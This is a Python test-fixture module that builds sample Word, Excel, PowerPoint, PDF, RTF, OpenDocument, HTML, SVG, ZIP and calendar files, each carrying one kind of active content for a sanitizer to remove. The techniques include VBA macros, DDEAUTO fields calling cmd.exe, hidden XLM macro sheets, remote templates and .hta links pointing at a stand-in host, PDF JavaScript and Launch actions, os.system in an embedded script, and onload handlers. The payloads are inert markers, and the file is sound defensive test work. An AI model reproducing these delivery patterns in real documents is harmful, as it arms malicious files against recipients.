"""Files with one thing to take out each, built in code: what it is, the bytes that may not be left of it, the neighbour that has to stay."""

from __future__ import annotations

import base64
import contextlib
import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from typing import NamedTuple

from tests.fixtures import doc, odf, ooxml, pdf, ppt, rtf, svg, vba, xls
from tests.fixtures.cfb import build
from tests.fixtures.zip import PROGRAM, TEXT, Member, archive

#: Stands in whatever has to go.
MARKER = b"PAYLOAD7f3a91"
#: How it may be spelled.
SPELLED = (MARKER, MARKER.decode().encode("utf-16-le"), MARKER.hex().encode(), base64.b64encode(MARKER * 9)[:16])
WORD = "Guten Tag"
MS = "http://schemas.microsoft.com/office/2006/relationships/"
V = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
A = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
P = 'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"'
PNG = b"\x89PNG\r\n\x1a\n" + bytes(60)
PARAGRAPH = f"<w:p><w:r><w:t>{WORD}</w:t></w:r></w:p>"


class Case(NamedTuple):
    """One file.

    Args:
        name: what it goes by; also its file name.
        data: its bytes.
        kind: kind of what has to go.
        neighbour: bytes that have to be in the cleaned file, unpacked.
    """

    name: str
    data: bytes
    kind: str
    neighbour: bytes = WORD.encode()


def project() -> bytes:
    """A VBA project with the marker in a stream of its own."""
    return build({**vba.project({"Module1": vba.MACRO}), "VBA/Extra": MARKER})


def object_file() -> bytes:
    """An embedded object that packs a file."""
    return build({"\x01Ole": bytes(20), "\x01Ole10Native": struct.pack("<I", 40) + MARKER + bytes(30)})


# -- Word ----------------------------------------------------------------------------------------------------------------------


def word(body: str = "", *, links=(), parts=None, types=None, kind: str = ooxml.WORD, spaces: str = "") -> bytes:
    """A Word document with a sentence and something else."""
    data = ooxml.word(PARAGRAPH + body, links=links, parts=parts, types=types, kind=kind)
    return rewritten(
        data,
        "word/document.xml",
        lambda text: text.replace(b"<w:document ", f"<w:document {R} {V} {A} {spaces} ".encode(), 1),
    )


def rewritten(data: bytes, name: str, change: Callable[[bytes], bytes]) -> bytes:
    """An archive with one member changed."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for item in old.infolist():
            content = old.read(item)
            new.writestr(item.filename, change(content) if item.filename == name else content)
    return out.getvalue()


def field(code: str, result: str = "shown") -> str:
    return ooxml.field(code).replace("text", result)


def words() -> Iterator[Case]:
    macro = {
        "links": (("rId7", MS + "vbaProject", "vbaProject.bin"),),
        "parts": {"word/vbaProject.bin": project()},
        "kind": ooxml.WORD_MACRO,
    }
    macro["types"] = {"word/vbaProject.bin": "application/vnd.ms-office.vbaProject"}
    yield Case("macro.docm", word(**macro), "vba")
    hidden = {
        **macro,
        "links": (("rId7", MS + "vbaProject", "media/bild.png"),),
        "parts": {"word/media/bild.png": project()},
        "types": None,
    }
    yield Case("macro-as-picture.docm", word(**hidden), "vba")
    data = f"<wne:vbaSuppData xmlns:wne='x'><wne:mcd wne:macroName='{MARKER.decode()}'/></wne:vbaSuppData>"
    signed = {
        **macro,
        "parts": {
            **macro["parts"],
            "word/_rels/vbaProject.bin.rels": ooxml.relationships(
                ("rId1", MS + "wordVbaData", "vbaData.xml"),
                ("rId2", MS + "vbaProjectSignature", "vbaProjectSignature.bin"),
            ),
            "word/vbaData.xml": data,
            "word/vbaProjectSignature.bin": MARKER,
        },
    }
    yield Case("macro-signed.docm", word(**signed), "vba")
    ribbon = f'<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="{MARKER.decode()}"/>'
    yield Case(
        "ribbon.docx",
        with_root_link(word(parts={"customUI/customUI.xml": ribbon}), MS + "ui/extensibility", "customUI/customUI.xml"),
        "ribbon-callback",
    )
    yield Case("dde.docx", word(field(f' DDEAUTO c:\\\\cmd.exe "{MARKER.decode()}"')), "dde-field", b"shown")
    split = ooxml.field(" D", "DE", "AUTO ", f'cmd "{MARKER.decode()}"').replace("text", "shown")
    yield Case("dde-split.docx", word(split), "dde-field", b"shown")
    simple = f'<w:p><w:fldSimple w:instr=" DDE cmd {MARKER.decode()} "><w:r><w:t>shown</w:t></w:r></w:fldSimple></w:p>'
    yield Case("dde-simple.docx", word(simple), "dde-field", b"shown")
    inner = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF 1 = 1 </w:instrText></w:r>'
        + field(f" DDEAUTO cmd {MARKER.decode()}").replace("<w:p>", "").replace("</w:p>", "")
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>outer</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    yield Case("dde-nested.docx", word(inner), "dde-field", b"outer")
    template = f"<w:settings {ooxml.W} {R}><w:zoom/><w:attachedTemplate r:id='rId1'/></w:settings>"
    yield Case("template.docx", word(
        links=(("rId3", "settings", "settings.xml"),),
        parts={
            "word/settings.xml": template,
            "word/_rels/settings.xml.rels": ooxml.relationships(("rId1", "attachedTemplate", f"http://198.51.100.9/{MARKER.decode()}.dotm", "External")),
        },
    ), "attached-template", b"zoom")  # fmt: skip
    picture = "<v:shape id='s1'><v:imagedata r:id='rId6'/></v:shape>"
    held = f"<w:p><w:r><w:object w:dxaOrig='1'>{picture}<o:OLEObject Type='Embed' ProgID='Package' ShapeID='s1' r:id='rId5'/></w:object></w:r></w:p>"
    yield Case("object.docx", word(
        held, links=(("rId5", "oleObject", "embeddings/oleObject1.bin"), ("rId6", "image", "media/image1.png")),
        parts={"word/embeddings/oleObject1.bin": object_file(), "word/media/image1.png": PNG},
    ), "ole-object", b"rId6")  # fmt: skip
    control = f"<w:p><w:r><w:object>{picture}<w:control r:id='rId5' w:name='Button'/></w:object></w:r></w:p>"
    activex = (
        f"<ax:ocx xmlns:ax='http://schemas.microsoft.com/office/2006/activeX' {R} ax:classid='{{1}}' r:id='rId1'/>"
    )
    yield Case("control.docx", word(
        control, links=(("rId5", "control", "activeX/activeX1.xml"), ("rId6", "image", "media/image1.png")),
        parts={
            "word/activeX/activeX1.xml": activex, "word/activeX/activeX1.bin": MARKER, "word/media/image1.png": PNG,
            "word/activeX/_rels/activeX1.xml.rels": ooxml.relationships(("rId1", MS + "activeXControlBinary", "activeX1.bin")),
        },
    ), "activex-control", b"rId6")  # fmt: skip
    linked = f"<w:p><w:r><w:object>{picture}<o:OLEObject Type='Link' ProgID='Word.Document' r:id='rId5'/></w:object></w:r></w:p>"
    yield Case("linked-object.docx", word(linked, links=(
        ("rId5", "oleObject", f"http://198.51.100.9/{MARKER.decode()}.hta", "External"), ("rId6", "image", "media/image1.png"),
    ), parts={"word/media/image1.png": PNG}), "ole-link", b"rId6")  # fmt: skip
    yield Case("subdocument.docx", word(
        "<w:p><w:subDoc r:id='rId5'/></w:p>", links=(("rId5", "subDocument", f"http://198.51.100.9/{MARKER.decode()}.docx", "External"),)
    ), "fetched-content")  # fmt: skip
    inside = word(**macro)
    yield Case("embedded-macro.docx", word(
        f"<w:p><w:r><w:object>{picture}<o:OLEObject Type='Embed' ProgID='Word.DocumentMacroEnabled.12' r:id='rId5'/></w:object></w:r></w:p>",
        links=(("rId5", "package", "embeddings/Dokument.docm"), ("rId6", "image", "media/image1.png")),
        parts={"word/embeddings/Dokument.docm": inside, "word/media/image1.png": PNG},
        types={"word/embeddings/Dokument.docm": "application/vnd.ms-word.document.macroEnabled.12"},
    ), "vba", b"rId5")  # fmt: skip
    yield Case("empty-chunk.docx", word(
        "<w:altChunk r:id='rId5'/>", links=(("rId5", "aFChunk", "chunk.html"),), parts={"word/chunk.html": b"<html><body class='" + MARKER + b"'> </body></html>"},
    ), "alternative-chunk")  # fmt: skip


def with_root_link(data: bytes, kind: str, target: str) -> bytes:
    """A package with one more relationship of its own."""
    row = f'<Relationship Id="rId99" Type="{kind}" Target="{target}"/></Relationships>'.encode()
    return rewritten(data, "_rels/.rels", lambda text: text.replace(b"</Relationships>", row))


# -- Excel ---------------------------------------------------------------------------------------------------------------------


def book(
    sheet: str = "",
    *,
    sheets: str = '<sheet name="Tabelle1" sheetId="1" r:id="rId1"/>',
    names: str = "",
    more: str = "",
    **options,
) -> bytes:
    """A workbook with one value and something else."""
    data = ooxml.excel(sheets, **options)
    body = f'<worksheet {ooxml.S}><sheetData><row r="1"><c r="A1"><v>4711</v></c>{sheet}</row></sheetData></worksheet>'
    data = rewritten(data, "xl/worksheets/sheet1.xml", lambda _: body.encode())
    kept = b'<definedName name="_xlnm.Auto_Open" hidden="1">Makro1!$A$1</definedName>'
    named = f'{names}<definedName name="Bereich">Tabelle1!$A$1</definedName>'.encode()
    return rewritten(
        data,
        "xl/workbook.xml",
        lambda text: text.replace(kept, named).replace(b"</sheets>", f"</sheets>{more}".encode()),
    )


def books() -> Iterator[Case]:
    kept = b"4711"
    yield Case("macro.xlsm", book(
        links=(("rId7", MS + "vbaProject", "vbaProject.bin"),), parts={"xl/vbaProject.bin": project()}, kind=ooxml.EXCEL_MACRO,
        names='<definedName name="Lauf" function="1" vbProcedure="1">#REF!</definedName>',
    ), "vba", kept)  # fmt: skip
    macro = f'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><f>EXEC("{MARKER.decode()}")</f></xm:macrosheet>'
    yield Case("sheet.xlsm", book(
        '<c r="B1"><f>Makro1!A1</f><v>12</v></c>',
        sheets='<sheet name="Makro1" sheetId="2" state="veryHidden" r:id="rId2"/><sheet name="Tabelle1" sheetId="1" r:id="rId1"/>',
        links=(("rId2", MS + "xlMacrosheet", "macrosheets/sheet1.xml"),), kind=ooxml.EXCEL_MACRO, parts={"xl/macrosheets/sheet1.xml": macro},
        types={"xl/macrosheets/sheet1.xml": "application/vnd.ms-excel.macrosheet+xml"},
        names='<definedName name="_xlnm.Auto_Open" hidden="1">Makro1!$A$1</definedName><definedName name="Blatt" localSheetId="1">Tabelle1!$A$1</definedName>',
    ), "xlm", kept)  # fmt: skip
    link = f'<externalLink {ooxml.S}><ddeLink ddeService="cmd" ddeTopic="{MARKER.decode()}"><ddeItems/></ddeLink></externalLink>'
    outside = {
        "links": (("rId9", "externalLink", "externalLinks/externalLink1.xml"),),
        "more": '<externalReferences><externalReference r:id="rId9"/></externalReferences>',
    }
    yield Case(
        "dde.xlsx",
        book('<c r="B1"><f>[1]!A0</f><v>12</v></c>', parts={"xl/externalLinks/externalLink1.xml": link}, **outside),
        "dde-link",
        b"<v>12</v>",
    )
    other = f'<externalLink {ooxml.S}><externalBook {R} r:id="rId1"><sheetNames><sheetName val="A"/></sheetNames></externalBook></externalLink>'
    yield Case("linked-book.xlsx", book('<c r="B1"><f>[1]A!A1</f><v>12</v></c>', parts={
        "xl/externalLinks/externalLink1.xml": other,
        "xl/externalLinks/_rels/externalLink1.xml.rels": ooxml.relationships(("rId1", "externalLinkPath", f"http://198.51.100.9/{MARKER.decode()}.xlsx", "External")),
    }, **outside), "fetched-content", b"<v>12</v>")  # fmt: skip
    connection = (
        f'<connections {ooxml.S}><connection id="1" name="Daten" type="4" refreshOnLoad="1"><webPr url="http://198.51.100.9/{MARKER.decode()}"/>'
        "</connection></connections>"
    )
    yield Case(
        "connection.xlsx",
        book(links=(("rId9", "connections", "connections.xml"),), parts={"xl/connections.xml": connection}),
        "data-connection",
        b"Daten",
    )
    fetching = f'<c r="B1"><f>_xlfn.WEBSERVICE("http://198.51.100.9/{MARKER.decode()}")</f><v>12</v></c>'
    yield Case("webservice.xlsx", book(fetching), "fetching-function", b"<v>12</v>")
    binary = ooxml.package("xl/workbook.bin", ooxml.EXCEL_BINARY, {
        "xl/workbook.bin": b"\x83\x01\x00\x84\x01\x00", "xl/vbaProject.bin": project(), "xl/media/a.png": PNG,
        "xl/_rels/workbook.bin.rels": ooxml.relationships(("rId7", MS + "vbaProject", "vbaProject.bin")),
    })  # fmt: skip
    yield Case("macro.xlsb", binary, "vba", PNG)


# -- PowerPoint ----------------------------------------------------------------------------------------------------------------


def slides(content: str = "", *, links=(), parts=None, macro: bool = False, kind: str = "presentation") -> bytes:
    """A presentation of one slide."""
    base = "application/vnd.openxmlformats-officedocument.presentationml."
    main = "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml" if macro else f"{base}{kind}.main+xml"
    slide = f"<p:sld {P} {A} {R}><p:cSld><p:spTree><p:sp><p:txBody><a:p><a:r><a:t>{WORD}</a:t></a:r></a:p></p:txBody></p:sp>{content}</p:spTree></p:cSld></p:sld>"
    own = [("rId1", "slide", "slides/slide1.xml"), *([("rId7", MS + "vbaProject", "vbaProject.bin")] if macro else [])]
    return ooxml.package("ppt/presentation.xml", main, {
        "ppt/presentation.xml": f'<p:presentation {P} {R}><p:sldIdLst><p:sldId id="256" r:id="rId1"/></p:sldIdLst></p:presentation>',
        "ppt/_rels/presentation.xml.rels": ooxml.relationships(*own),
        "ppt/slides/slide1.xml": slide,
        "ppt/slides/_rels/slide1.xml.rels": ooxml.relationships(*links),
        **({"ppt/vbaProject.bin": project()} if macro else {}),
        **(parts or {}),
    }, {"ppt/slides/slide1.xml": f"{base}slide+xml"})  # fmt: skip


def presentations() -> Iterator[Case]:
    yield Case("macro.pptm", slides(macro=True), "vba")
    action = '<p:sp><p:nvSpPr><p:cNvPr id="2" name="Knopf"><a:hlinkClick r:id="rId2" action="ppaction://program"/></p:cNvPr></p:nvSpPr></p:sp>'
    yield Case(
        "action.pptx",
        slides(action, links=(("rId2", "hyperlink", f"file:///c:/{MARKER.decode()}.exe", "External"),)),
        "slide-action",
        b"Knopf",
    )
    macro = f'<p:sp><p:nvSpPr><p:cNvPr id="2" name="Knopf"><a:hlinkClick r:id="" action="ppaction://macro?name={MARKER.decode()}"/></p:cNvPr></p:nvSpPr></p:sp>'
    yield Case("macro-action.pptx", slides(macro), "slide-action", b"Knopf")
    shown = '<p:pic><p:blipFill><a:blip r:embed="rId3"/></p:blipFill></p:pic>'
    frame = f'<p:graphicFrame><a:graphic><a:graphicData uri="ole"><p:oleObj r:id="rId2" progId="Package"><p:embed/>{shown}</p:oleObj></a:graphicData></a:graphic></p:graphicFrame>'
    yield Case("object.pptx", slides(frame, links=(("rId2", "oleObject", "../embeddings/oleObject1.bin"), ("rId3", "image", "../media/a.png")), parts={
        "ppt/embeddings/oleObject1.bin": object_file(), "ppt/media/a.png": PNG,
    }), "ole-object", b"rId3")  # fmt: skip


def legacy() -> Iterator[Case]:
    shape = (
        '<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"><v:shape id="_x0000_s1026">'
        '<v:imagedata o:relid="rId1"/></v:shape></xml>'
    )
    place = '<p:xfrm><a:off x="1" y="2"/><a:ext cx="3" cy="4"/></p:xfrm>'
    frame = f'<p:graphicFrame>{place}<a:graphic><a:graphicData uri="ole"><p:oleObj spid="_x0000_s1026" r:id="rId2" progId="Package"><p:embed/></p:oleObj></a:graphicData></a:graphic></p:graphicFrame>'
    yield Case("object-2007.pptx", slides(frame, links=(("rId2", "oleObject", "../embeddings/oleObject1.bin"), ("rId4", "vmlDrawing", "../drawings/vmlDrawing1.vml")), parts={
        "ppt/embeddings/oleObject1.bin": object_file(), "ppt/media/a.png": PNG, "ppt/drawings/vmlDrawing1.vml": shape,
        "ppt/drawings/_rels/vmlDrawing1.vml.rels": ooxml.relationships(("rId1", "image", "../media/a.png")),
    }), "ole-object", b'r:embed="rIdKept1"')  # fmt: skip


# -- PDF -----------------------------------------------------------------------------------------------------------------------

SCRIPT = b"<</S/JavaScript/JS(%s)>>" % MARKER


def pdfs() -> Iterator[Case]:
    def catalog(more: bytes, **objects: bytes) -> bytes:
        return pdf.pdf(
            {
                1: b"<</Type/Catalog/Pages 2 0 R" + more + b">>",
                **{int(key[1:]): value for key, value in objects.items()},
            }
        )

    script = "pdf-javascript"
    kept = b"/MediaBox"
    yield Case("open.pdf", catalog(b"/OpenAction 5 0 R", o5=SCRIPT), script, kept)
    yield Case("direct.pdf", catalog(b"/OpenAction" + SCRIPT), script, kept)
    tree = b"/Names<</JavaScript<</Kids[6 0 R]>>/Dests 9 0 R>>"
    yield Case(
        "tree.pdf",
        catalog(tree, o6=b"<</Kids[7 0 R]>>", o7=b"<</Names[(a)5 0 R]>>", o5=SCRIPT, o9=b"<</Names[]>>"),
        script,
        b"/Dests",
    )
    yield Case("document-event.pdf", catalog(b"/AA<</WC 5 0 R>>", o5=SCRIPT), script, kept)
    yield Case(
        "chain.pdf",
        catalog(
            b"/OpenAction<</S/JavaScript/JS(%s)/Next 6 0 R>>" % MARKER,
            o6=b"<</S/GoTo/D[3 0 R/Fit]/Next 5 0 R>>",
            o5=SCRIPT,
        ),
        script,
        b"/GoTo",
    )
    yield Case(
        "behind.pdf",
        catalog(
            b"/OpenAction 6 0 R",
            o6=b"<</S/GoTo/D[3 0 R/Fit]/Next[5 0 R 7 0 R]>>",
            o5=SCRIPT,
            o7=b"<</S/Named/N/NextPage>>",
        ),
        script,
        b"/NextPage",
    )
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/AA<</O 5 0 R>>/Annots[6 0 R 7 0 R]>>"
    link = b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://example.org/)>>>>"
    widget = b"<</Type/Annot/Subtype/Widget/Rect[0 0 9 9]/PA 5 0 R/AA<</D 5 0 R>>/A 5 0 R>>"
    yield Case("page.pdf", catalog(b"", o3=page, o5=SCRIPT, o6=link, o7=widget), script, b"https://example.org/")
    form = b"/AcroForm<</Fields[6 0 R]/CO[6 0 R]>>"
    parent = b"<</T(Feld)/FT/Tx/V(Wert)/AA<</K 5 0 R/F 5 0 R/V 5 0 R/C 5 0 R>>/Kids[7 0 R]>>"
    yield Case(
        "fields.pdf", catalog(form, o6=parent, o7=b"<</Parent 6 0 R/AA<</K 5 0 R>>>>", o5=SCRIPT), script, b"(Wert)"
    )
    outline = b"<</First 7 0 R/Last 7 0 R>>"
    yield Case(
        "outline.pdf",
        catalog(b"/Outlines 6 0 R", o6=outline, o7=b"<</Title(Kapitel)/Parent 6 0 R/A 5 0 R>>", o5=SCRIPT),
        script,
        b"Kapitel",
    )
    structure = b"/StructTreeRoot<</Type/StructTreeRoot/K 6 0 R>>"
    yield Case(
        "structure.pdf", catalog(structure, o6=b"<</Type/StructElem/S/P/A 5 0 R>>", o5=SCRIPT), script, b"/StructElem"
    )
    yield Case("private.pdf", catalog(b"/PieceInfo<</X<</Private 5 0 R>>>>", o5=SCRIPT), script, b"/PieceInfo")
    yield Case(
        "cyclic.pdf",
        catalog(
            b"/OpenAction 5 0 R/Names<</JavaScript 6 0 R>>",
            o5=SCRIPT[:-2] + b"/Next 7 0 R>>",
            o7=b"<</S/GoTo/D[3 0 R/Fit]/Next 5 0 R>>",
            o6=b"<</Kids[6 0 R]/Names[(a)5 0 R]>>",
        ),
        script,
        b"/GoTo",
    )
    yield Case("launch.pdf", catalog(b"/OpenAction<</S/Launch/F(%s.exe)>>" % MARKER), "pdf-launch", kept)
    yield Case(
        "submit.pdf", catalog(b"/OpenAction<</S/SubmitForm/F(http://198.51.100.9/%s)>>" % MARKER), "pdf-reference", kept
    )
    yield Case("elsewhere.pdf", catalog(b"/OpenAction<</S/GoToR/F(%s.pdf)/D[0/Fit]>>" % MARKER), "pdf-reference", kept)
    yield Case(
        "address.pdf", catalog(b"/OpenAction<</S/URI/URI(http://198.51.100.9/%s)>>" % MARKER), "pdf-reference", kept
    )
    xfa = b"/AcroForm<</Fields[6 0 R]/XFA 5 0 R>>"
    yield Case(
        "xfa.pdf",
        catalog(xfa, o6=b"<</T(Feld)/FT/Tx/V(Wert)>>", o5=pdf.stream(b"<xdp><script>" + MARKER + b"</script></xdp>")),
        "pdf-xfa-form",
        b"(Wert)",
    )
    media = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Annots[6 0 R 7 0 R]>>"
    rich = b"<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]/RichMediaContent<</Assets<</Names[(a)8 0 R]>>>>>>"
    yield Case(
        "media.pdf",
        catalog(
            b"",
            o3=media,
            o6=rich,
            o7=link,
            o8=b"<</Type/Filespec/F(a.swf)/EF<</F 5 0 R>>>>",
            o5=pdf.stream(MARKER, b"/Type/EmbeddedFile"),
        ),
        "pdf-multimedia",
        b"https://example.org/",
    )
    attached = b"/Names<</EmbeddedFiles<</Names[(a)6 0 R]>>>>/AF[6 0 R]"
    file = b"<</Type/Filespec/F(a.txt)/EF<</F 5 0 R>>>>"
    yield Case(
        "attachment.pdf",
        catalog(attached, o6=file, o5=pdf.stream(MARKER, b"/Type/EmbeddedFile")),
        "pdf-attachment",
        kept,
    )
    note = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Annots[7 0 R]>>"
    yield Case(
        "note.pdf",
        catalog(
            b"",
            o3=note,
            o7=b"<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS 6 0 R>>",
            o6=file,
            o5=pdf.stream(MARKER, b"/Type/EmbeddedFile"),
        ),
        "pdf-attachment",
        b"/FileAttachment",
    )
    yield Case(
        "streams.pdf", pdf.packed({1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 7 0 R>>"}, {7: SCRIPT}), script, kept
    )


# -- the rest ------------------------------------------------------------------------------------------------------------------


def compounds() -> Iterator[Case]:
    macros = {**vba.project({"ThisDocument": vba.MACRO}, above="Macros/"), "Macros/VBA/Extra": MARKER}
    yield Case("macro.doc", build({**doc.streams(), **macros}, doc.CLSID), "vba")
    yield Case(
        "dde.doc", doc.document(f"{WORD} \x13 DDEAUTO cmd {MARKER.decode()} \x14shown\x15."), "dde-field", b"shown"
    )
    yield Case(
        "dde-wide.doc",
        doc.document(f"{WORD} \x13 DDEAUTO cmd {MARKER.decode()} \x14shown\x15.", wide=True, split=True),
        "dde-field",
        "shown".encode("utf-16-le"),
    )
    yield Case("template.doc", doc.document(template=f"http://198.51.100.9/{MARKER.decode()}.dot"), "attached-template")
    held = {
        "ObjectPool/_1/\x01Ole": bytes(20),
        "ObjectPool/_1/\x01Ole10Native": struct.pack("<I", 30) + MARKER + bytes(20),
    }
    yield Case("object.doc", build({**doc.streams(), **held}, doc.CLSID), "ole-object")
    sheet = [("Tabelle1", 0, 0)]
    book = xls.record(0x00D3) + xls.record(0x01BA, b"\x03\0\0abc")
    current = {**vba.project({"Module1": vba.MACRO}, above="_VBA_PROJECT_CUR/"), "_VBA_PROJECT_CUR/VBA/Extra": MARKER}
    yield Case("macro.xls", xls.file(xls.workbook(sheet, extra=book), current), "vba", b"Tabelle1")
    yield Case(
        "dde.xls", xls.file(xls.workbook(sheet, extra=xls.dde_link(topic=MARKER.decode()))), "dde-link", b"Tabelle1"
    )
    text = ppt.record(0x0FA8, WORD.encode())
    yield Case(
        "macro.ppt",
        ppt.presentation(text, ppt.record(0x0400, struct.pack("<III", 1, 1, 2)), ppt.stored(project())),
        "vba",
    )
    yield Case("object.ppt", ppt.presentation(text, ppt.stored(object_file(), packed=False)), "ole-object")
    acting = ppt.record(0x0FF3, bytes(8) + b"\x02" + bytes(7)) + ppt.record(
        0x0FBA, MARKER.decode().encode("utf-16-le"), 0x20
    )
    yield Case("action.ppt", ppt.presentation(text, ppt.record(0x0FF2, acting, 0x000F)), "slide-action")


def others() -> Iterator[Case]:
    name = MARKER.decode()
    held = rtf.with_object(rtf.ole1("Package", rtf.package("a.exe", MARKER + bytes(20))).hex())
    yield Case(
        "object.rtf",
        held.replace(b"\\par", b"\\par " + WORD.encode() + b"\\par", 1) if b"\\par" in held else held,
        "ole-object",
        b"\\rtf1",
    )
    yield Case(
        "dde.rtf",
        rtf.document(WORD + r"{\field{\*\fldinst DDEAUTO cmd " + name + r"}{\fldrslt shown}}"),
        "dde-field",
        b"shown",
    )
    yield Case(
        "template.rtf", rtf.document(WORD + r"{\*\template http://198.51.100.9/" + name + ".dot}"), "attached-template"
    )
    body = f"<text:p>{WORD}</text:p>"
    listener = f'<office:event-listeners><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.{name}?language=Basic"/></office:event-listeners>'
    module = odf.module(odf.CODE + f"REM {name}\n")
    parts = {"Basic/Standard/Module1.xml": module, "Basic/script-lc.xml": "<x/>"}
    yield Case("basic.odt", text_document(parts, listener + body), "odf-basic")
    yield Case("listener.odt", text_document({}, listener + body), "odf-macro-call")
    yield Case(
        "script.odt", text_document({"Scripts/python/a.py": f"import os\nos.system('{name}')\n"}, body), "odf-script"
    )
    section = f'<text:section><text:section-source xlink:href="http://198.51.100.9/{name}.odt"/>{body}</text:section>'
    yield Case("section.odt", text_document({}, section), "fetched-content")
    page = f'<html><head><script>{name}</script></head><body onload="{name}()"><p>{WORD}</p><a href="https://example.org/">x</a></body></html>'
    yield Case("script.html", page.encode(), "html-script")
    yield Case("link.html", f'<p>{WORD} <a href="javascript:{name}()">x</a></p>'.encode(), "html-script-link")
    yield Case("frame.html", f'<p>{WORD}</p><iframe src="http://198.51.100.9/{name}"></iframe>'.encode(), "html-frame")
    yield Case(
        "form.html",
        f'<p>{WORD}</p><form action="http://198.51.100.9/{name}"><input name="a"></form>'.encode(),
        "html-form-target",
        b"<input",
    )
    yield Case("script.svg", svg.drawing(f"<script>{name}</script><text>{WORD}</text>"), "svg-script")
    yield Case("handler.svg", svg.drawing(f"<text>{WORD}</text>", f' onload="{name}()"'), "svg-handler")
    program = PROGRAM + MARKER
    yield Case("program.zip", archive(Member("brief.txt", TEXT), Member("setup.exe", program)), "windows-program", TEXT)
    yield Case(
        "inside.zip",
        archive(Member("brief.txt", TEXT), Member("ordner/seite.html", page.encode())),
        "html-script",
        TEXT,
    )


def word_xml() -> Iterator[Case]:
    """Word 2003 XML."""
    head = '<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml" w:macrosPresent="no"><w:body>'
    field_of = ooxml.field(f" DDEAUTO cmd {MARKER.decode()} ").replace("text", "shown")
    yield Case("dde.xml", f"{head}{PARAGRAPH}{field_of}</w:body></w:wordDocument>".encode(), "dde-field", b"shown")


def calendars() -> Iterator[Case]:
    name = MARKER.decode()
    file = f"ATTACH;FMTTYPE=application/octet-stream;X-FILENAME=a.bin;ENCODING=BASE64;VALUE=BINARY:{base64.b64encode(MARKER * 9).decode()}"
    head = f"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY:{WORD}\r\n"
    end = "END:VEVENT\r\nEND:VCALENDAR\r\n"
    folded = "\r\n ".join(file[at : at + 70] for at in range(0, len(file), 70))
    yield Case(
        "file.ics", f"{head}{folded}\r\nX-{name}:1\r\n{end}".replace(f"X-{name}:1\r\n", "").encode(), "calendar-file"
    )
    yield Case(
        "page.ics",
        f"{head}X-ALT-DESC;FMTTYPE=text/html:<p>kept\\, too</p><script>{name}</script>\r\n{end}".encode(),
        "html-script",
        b"kept\\, too",
    )
    yield Case(
        "alarm.ics",
        f"{head}BEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:file:///c:/{name}.exe\r\nEND:VALARM\r\n{end}".encode(),
        "calendar-procedure",
    )
    yield Case(
        "path.vcf",
        f"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:{WORD}\r\nLOGO;VALUE=uri:file://203.0.113.7/{name}.png\r\nEND:VCARD\r\n".encode(),
        "card-network-path",
    )


def text_document(parts: dict, body: str) -> bytes:
    """An OpenDocument text with these members, in well-formed XML."""
    names = "urn:oasis:names:tc:opendocument:xmlns"
    spaces = f'xmlns:script="{names}:script:1.0" xmlns:text="{names}:text:1.0" xmlns:office'.encode()
    return rewritten(
        odf.document(parts, body=body), "content.xml", lambda text: text.replace(b"xmlns:office", spaces, 1)
    )


def cases() -> list[Case]:
    """All of them."""
    from tests.sanitizers import places  # which builds on this

    groups = (words, books, presentations, legacy, pdfs, compounds, others, word_xml, calendars, places.cases)
    return [case for group in groups for case in group()]


def unpacked(data: bytes) -> bytes:
    """Everything in a file, with all that is compressed unpacked: what a search for a payload has to look through."""
    pieces = [data]
    if data.startswith(b"PK"):
        with zipfile.ZipFile(io.BytesIO(data)) as file:
            pieces += [unpacked(file.read(item)) for item in file.infolist()]
    elif data.startswith(b"%PDF"):
        import pikepdf

        target = io.BytesIO()
        with pikepdf.open(io.BytesIO(data)) as file:
            file._count_orphaned_widgets = lambda: 0  # no warning about widgets that no form lists
            file.save(
                target,
                compress_streams=False,
                stream_decode_level=pikepdf.StreamDecodeLevel.all,
                object_stream_mode=pikepdf.ObjectStreamMode.disable,
            )
        pieces.append(target.getvalue())
    elif data.startswith(b"\xd0\xcf\x11\xe0"):
        import olefile

        with olefile.OleFileIO(io.BytesIO(data)) as file:
            for path in file.listdir():
                content = file.openstream(path).read()
                pieces.append(content)
                at = content.find(b"x\x9c")
                while at >= 0:
                    with_errors = zlib.decompressobj()
                    with contextlib.suppress(zlib.error):
                        pieces.append(with_errors.decompress(content[at:], 1 << 24))
                    at = content.find(b"x\x9c", at + 1)
    return b"\n".join(pieces)
